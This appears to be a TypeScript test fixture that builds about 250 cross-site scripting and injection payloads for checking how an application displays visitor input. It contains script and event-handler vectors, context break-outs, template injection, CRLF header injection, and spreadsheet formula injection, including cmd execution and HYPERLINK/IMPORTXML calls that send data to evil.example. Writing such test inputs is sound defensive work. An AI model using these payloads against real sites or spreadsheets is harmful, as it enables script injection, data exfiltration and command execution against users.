/**
 * What somebody may send as a title, a message, a user agent or a flag in the hope that it is run where it is shown: 250
 * texts that set `window.hacked` if they are taken for markup, script, address, style, template or formula. For whatever
 * shows what visitors send: elements, mails, files.
 */

const RUN = 'window.hacked=1'

/** Each in every dress below. */
const VECTORS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<object data="data:text/html,<script>opener.${RUN}</script>"></object>`,
  `<script src="/hacked.js"></script>`,
  `<link rel=stylesheet href="//evil.example/a.css">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<p style="animation:x" onanimationstart=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<custom-x onpointerenter=${RUN} tabindex=0>`,
] as const

const DRESSES: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}<'`,
  (vector) => `</title></textarea></style></script>${vector}`,
  (vector) => `--><!--?lit$1$-->${vector}<!--`,
  (vector) => `]]>${vector}<![CDATA[`,
  (vector) => vector.replaceAll('<', '\u003c').toUpperCase().replaceAll('WINDOW.HACKED', 'window.hacked'),
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('"', '&quot;'),
  (vector) => vector.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (vector) => `\u202E\u0000${vector.replace(' ', '\u000B')}\uFEFF`,
  (vector) => `<${vector}`,
]

/** Those that no dress suits. */
const OTHERS = [
  `javascript:${RUN}`,
  `JaVaScRiPt\t:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `'+(${RUN})+'`,
  `";${RUN};//`,
  `\`\${${RUN}}\``,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `__proto__`,
  `constructor`,
  `toString`,
  `url(javascript:${RUN})`,
  `expression(${RUN})`,
  `x" onmouseover="${RUN}`,
  `x' onfocus='${RUN}' autofocus='`,
  `\u2028${RUN}\u2029`,
  `\uD800 lone`,
  `%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>${RUN}</script>`,
] as const

/** What a spreadsheet would run. */
export const FORMULAS = [
  `=HYPERLINK("https://evil.example?"&A1,"x")`,
  `=cmd|'/C calc'!A0`,
  `+cmd|'/C calc'!A0`,
  `-2+3+cmd|'/C calc'!A0`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `=IMPORTXML("https://evil.example","//a")`,
  `@import url(//evil.example)`,
] as const

export const XSS_PAYLOADS: readonly string[] = [
  ...VECTORS.flatMap((vector) => DRESSES.map((dress) => dress(vector))),
  ...OTHERS,
  ...FORMULAS,
]
